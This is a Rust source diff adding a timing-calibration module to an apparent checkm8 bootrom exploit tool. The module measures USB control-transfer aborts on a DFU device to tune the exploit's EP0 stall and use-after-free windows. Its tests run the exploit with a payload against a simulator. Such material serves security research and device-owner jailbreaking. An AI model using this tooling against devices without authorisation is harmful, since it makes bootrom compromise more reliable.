@@ -0,0 +1,319 @@
+// Measures how this host cuts transfers short, on a DFU device that's left
+// unexploited: nothing here frees the io_buffer under an armed data phase.
+//
+// For the stall, each abort delay is tried on the serial string request, and
+// counts if the request after it queues up behind it too. For the UAF, a
+// DNLOAD is cut short after each delay, then 64 byte packets of a request the
+// ROM doesn't handle go into the data phase it left armed until GETSTATUS
+// says the DNLOAD went through. What that took tells how much of the DNLOAD's
+// own data made it. checkm8 pads after what got through where the transport
+// can tell it, and otherwise needs a delay where none of it did.
+
+use crate::dfu::{DfuClient, DFU_TIMEOUT};
+use crate::timing::TimingProfile;
+use crate::transport::{TransferError, Transport};
+use crate::{DFU_DNLOAD, DFU_MAX_TRANSFER_SIZE, DFU_STATE_DNLOAD_IDLE, EP0_MAX_PACKET_SIZE};
+use tracing::{debug, info};
+
+const GET_DESCRIPTOR: u8 = 6;
+const SERIAL_STRING: u16 = 0x304;
+const LANGUAGE_ID: u16 = 0x40A;
+
+// Tries it takes to get a 99.9% chance of success, and never fewer than
+// MIN_ATTEMPTS: a clean sweep over a handful of trials proves little
+const CONFIDENCE: f64 = 0.999;
+const MIN_ATTEMPTS: u32 = 10;
+
+#[derive(Debug, Clone, Default)]
+pub struct StallResult {
+    pub delay: u32,
+    pub trials: u32,
+    // cut short with the next request stuck behind it
+    pub stalled: u32,
+    // cut short, but the next request went through: aborted too early
+    pub missed: u32,
+    // the device answered in full before the delay was up
+    pub completed: u32,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct UafResult {
+    pub delay: u32,
+    pub trials: u32,
+    // armed with none of the DNLOAD's data in: what checkm8 needs
+    pub clean: u32,
+    // bytes of the DNLOAD's data in, for each that was armed with some
+    pub partial: Vec<usize>,
+    // cut short before the device saw the SETUP
+    pub not_armed: u32,
+    pub completed: u32,
+}
+
+fn device_error(e: TransferError) -> String {
+    match e {
+        TransferError::NoDevice => "device disconnected".to_string(),
+        e => e.to_string(),
+    }
+}
+
+fn get_descriptor<T: Transport>(transport: &mut T, length: u16, timeout: u32) -> Result<usize, TransferError> {
+    let mut data = vec![0u8; length.into()];
+    transport.control_transfer(0x80, GET_DESCRIPTOR, SERIAL_STRING, LANGUAGE_ID, &mut data, timeout)
+}
+
+pub fn measure_stall<T: Transport>(
+    transport: &mut T,
+    delay: u32,
+    trials: u32,
+    profile: &TimingProfile,
+) -> Result<StallResult, String> {
+    let mut result = StallResult {
+        delay,
+        trials,
+        ..StallResult::default()
+    };
+    for _ in 0..trials {
+        match get_descriptor(transport, 3 * EP0_MAX_PACKET_SIZE, delay) {
+            Err(TransferError::Timeout) => {}
+            Err(TransferError::NoDevice) => return Err("device disconnected".to_string()),
+            _ => {
+                result.completed += 1;
+                continue;
+            }
+        }
+        match get_descriptor(transport, EP0_MAX_PACKET_SIZE + 1, profile.request_timeout) {
+            Err(TransferError::Timeout) => result.stalled += 1,
+            Err(TransferError::NoDevice) => return Err("device disconnected".to_string()),
+            _ => result.missed += 1,
+        }
+        // frees whatever is queued; none of it leaks
+        transport.reset().map_err(|e| format!("reset: {}", e))?;
+    }
+    debug!(?result, "stall");
+    Ok(result)
+}
+
+// Where a cut short DNLOAD left the data phase
+enum DataPhase {
+    // armed, with this many of the DNLOAD's bytes in
+    Through(usize),
+    NotArmed,
+    Completed,
+}
+
+fn uaf_trial<T: Transport>(transport: &mut T, delay: u32) -> Result<DataPhase, String> {
+    let length = usize::from(DFU_MAX_TRANSFER_SIZE);
+    let mut block = vec![0u8; length];
+    match transport.control_transfer(0x21, DFU_DNLOAD, 0, 0, &mut block, delay) {
+        Ok(_) => return Ok(DataPhase::Completed),
+        Err(TransferError::Timeout) => {}
+        Err(e) => return Err(format!("DNLOAD: {}", device_error(e))),
+    }
+    let packet = usize::from(EP0_MAX_PACKET_SIZE);
+    let mut padding = vec![0u8; packet];
+    for packets in 1..=length / packet {
+        // stalled once the data is in, like any request the ROM doesn't handle
+        if let Err(TransferError::NoDevice) = transport.control_transfer(0, 0, 0, 0, &mut padding, DFU_TIMEOUT) {
+            return Err("device disconnected".to_string());
+        }
+        let status = DfuClient::new(&mut *transport)
+            .get_status()
+            .map_err(|e| format!("GETSTATUS: {}", device_error(e)))?;
+        if status.state == DFU_STATE_DNLOAD_IDLE {
+            return Ok(DataPhase::Through(length - packets * packet));
+        }
+    }
+    Ok(DataPhase::NotArmed)
+}
+
+pub fn measure_uaf<T: Transport>(transport: &mut T, delay: u32, trials: u32) -> Result<UafResult, String> {
+    let mut result = UafResult {
+        delay,
+        trials,
+        ..UafResult::default()
+    };
+    for _ in 0..trials {
+        match uaf_trial(transport, delay)? {
+            DataPhase::Through(0) => result.clean += 1,
+            DataPhase::Through(bytes) => result.partial.push(bytes),
+            DataPhase::NotArmed => result.not_armed += 1,
+            DataPhase::Completed => result.completed += 1,
+        }
+        // the data phase is done with, so this only drops the download
+        DfuClient::new(&mut *transport)
+            .abort()
+            .map_err(|e| format!("ABORT: {}", device_error(e)))?;
+    }
+    debug!(?result, "uaf");
+    Ok(result)
+}
+
+// For a success rate of `successes` in `trials`, neither of them 0
+fn attempts_for(successes: u32, trials: u32) -> u32 {
+    let rate = f64::from(successes) / f64::from(trials);
+    if rate >= 1.0 {
+        return MIN_ATTEMPTS;
+    }
+    (((1.0 - CONFIDENCE).ln() / (1.0 - rate).ln()).ceil() as u32).max(MIN_ATTEMPTS)
+}
+
+// `base` with the stall and UAF timing from the measurements: the stall delay
+// that stalled most often, and the delays from the first that left the data
+// phase clean to the last one in a row that did
+pub fn recommend(base: &TimingProfile, stalls: &[StallResult], uafs: &[UafResult]) -> Result<TimingProfile, String> {
+    let stall = stalls
+        .iter()
+        .filter(|result| result.stalled > 0)
+        .max_by_key(|result| (result.stalled * 1000 / result.trials, std::cmp::Reverse(result.delay)))
+        .ok_or("no delay stalled EP0")?;
+    let first = uafs
+        .iter()
+        .position(|result| result.clean > 0)
+        .ok_or("no delay cut a DNLOAD short before its data went out")?;
+    let run: Vec<&UafResult> = uafs[first..].iter().take_while(|result| result.clean > 0).collect();
+    let clean = run.iter().map(|result| result.clean).sum();
+    let trials = run.iter().map(|result| result.trials).sum();
+    let last = run.last().unwrap();
+    info!(
+        "stall: {}ms stalled {} of {}; uaf: {}-{}ms left {} of {} clean",
+        stall.delay, stall.stalled, stall.trials, run[0].delay, last.delay, clean, trials
+    );
+    Ok(TimingProfile {
+        stall_abort: stall.delay,
+        stall_attempts: attempts_for(stall.stalled, stall.trials) as usize,
+        uaf_abort: (run[0].delay, last.delay),
+        uaf_attempts: attempts_for(clean, trials).max(run.len() as u32),
+        ..base.clone()
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::checkm8::checkm8;
+    use crate::sim::DfuSimulator;
+    use crate::timing::Profiles;
+
+    const TRIALS: u32 = 3;
+
+    fn generic() -> TimingProfile {
+        Profiles::builtin().get("generic").unwrap().clone()
+    }
+
+    // What calibrate does for delays 1-40, on one simulator
+    fn sweep(sim: &mut DfuSimulator) -> (Vec<StallResult>, Vec<UafResult>) {
+        (1..=40)
+            .map(|delay| {
+                let stall = measure_stall(sim, delay, TRIALS, &generic()).unwrap();
+                let uaf = measure_uaf(sim, delay, TRIALS).unwrap();
+                (stall, uaf)
+            })
+            .unzip()
+    }
+
+    // The simulator sends the SETUP in a millisecond and a packet in each one
+    // after: 3 packets of serial string take 4ms, the 32 of a DNLOAD 33
+    #[test]
+    fn measures_the_simulator() {
+        let mut sim = DfuSimulator::new();
+        let (stalls, uafs) = sweep(&mut sim);
+        for stall in &stalls {
+            let counts = (stall.stalled, stall.missed, stall.completed);
+            let expected = if stall.delay < 4 { (TRIALS, 0, 0) } else { (0, 0, TRIALS) };
+            assert_eq!(counts, expected, "stall at {}ms", stall.delay);
+        }
+        for uaf in &uafs {
+            let counts = (uaf.clean, uaf.not_armed, uaf.completed);
+            match uaf.delay {
+                1 => assert_eq!(counts, (TRIALS, 0, 0)),
+                delay @ 2..=32 => {
+                    assert_eq!(counts, (0, 0, 0), "uaf at {}ms", delay);
+                    assert_eq!(uaf.partial, vec![(delay as usize - 1) * 0x40; TRIALS as usize], "uaf at {}ms", delay);
+                }
+                delay => assert_eq!(counts, (0, 0, TRIALS), "uaf at {}ms", delay),
+            }
+        }
+        // nothing was freed under the data phase, or exploited
+        assert!(!sim.is_pwned());
+        assert!(!sim.events().iter().any(|event| event.contains("freed") || event.contains("stale")));
+    }
+
+    #[test]
+    fn recommends_what_works_on_the_simulator() {
+        let (stalls, uafs) = sweep(&mut DfuSimulator::new());
+        let profile = recommend(&generic(), &stalls, &uafs).unwrap();
+        assert!((1..4).contains(&profile.stall_abort), "{:?}", profile);
+        assert_eq!(profile.uaf_abort, (1, 1));
+        assert_eq!((profile.stall_attempts, profile.uaf_attempts), (MIN_ATTEMPTS as usize, MIN_ATTEMPTS));
+        assert_eq!(profile.request_timeout, generic().request_timeout);
+
+        // and the exploit works with it, every delay in the window
+        for delay in profile.uaf_abort.0..=profile.uaf_abort.1 {
+            let mut sim = DfuSimulator::new();
+            let soc = sim.soc();
+            let profile = TimingProfile {
+                uaf_abort: (delay, delay),
+                ..profile.clone()
+            };
+            checkm8(&mut sim, soc, &profile, crate::YOLO_T8010_BIN).unwrap();
+            assert!(sim.is_pwned(), "{}ms: {:?}", delay, sim.diagnosis());
+        }
+    }
+
+    fn uaf(delay: u32, clean: u32) -> UafResult {
+        UafResult {
+            delay,
+            trials: 10,
+            clean,
+            completed: 10 - clean,
+            ..UafResult::default()
+        }
+    }
+
+    fn stall(delay: u32, stalled: u32) -> StallResult {
+        StallResult {
+            delay,
+            trials: 10,
+            stalled,
+            missed: 10 - stalled,
+            ..StallResult::default()
+        }
+    }
+
+    #[test]
+    fn recommends_the_first_clean_run() {
+        let stalls = [stall(1, 2), stall(2, 9), stall(3, 9), stall(4, 0)];
+        let uafs = [uaf(1, 0), uaf(2, 3), uaf(3, 5), uaf(4, 0), uaf(5, 10)];
+        let profile = recommend(&generic(), &stalls, &uafs).unwrap();
+        // the best stall rate, the earlier delay of a tie
+        assert_eq!((profile.stall_abort, profile.stall_attempts), (2, attempts_for(9, 10) as usize));
+        // 5ms is clean every time, but not next to the others
+        assert_eq!((profile.uaf_abort, profile.uaf_attempts), ((2, 3), attempts_for(8, 20)));
+
+        assert_eq!(
+            recommend(&generic(), &[stall(1, 0)], &uafs).unwrap_err(),
+            "no delay stalled EP0"
+        );
+        assert_eq!(
+            recommend(&generic(), &stalls, &[uaf(1, 0), uaf(2, 0)]).unwrap_err(),
+            "no delay cut a DNLOAD short before its data went out"
+        );
+    }
+
+    #[test]
+    fn attempts_for_confidence() {
+        for (successes, trials, attempts) in [
+            (10, 10, MIN_ATTEMPTS),
+            (1, 2, MIN_ATTEMPTS),
+            (9, 10, MIN_ATTEMPTS),
+            (1, 10, 66),
+            (8, 20, 14),
+            (1, 100, 688),
+        ] {
+            assert_eq!(attempts_for(successes, trials), attempts, "{} of {}", successes, trials);
+            let rate = f64::from(successes) / f64::from(trials);
+            // enough that they all failing is under 0.1%
+            assert!(successes == trials || (1.0 - rate).powi(attempts as i32) < 1.0 - CONFIDENCE);
+        }
+    }
+}